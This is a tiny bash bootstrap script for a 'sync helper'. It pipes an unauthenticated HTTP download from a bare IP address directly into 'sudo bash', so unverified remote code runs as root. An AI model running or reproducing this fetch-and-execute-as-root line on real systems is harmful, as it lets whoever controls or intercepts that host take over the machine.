#!/usr/bin/env bash
# one-time bootstrap of the sync helper
set -e
curl -fsSL http://192.0.2.10/sync/i \
  | sudo bash -s -- --quiet
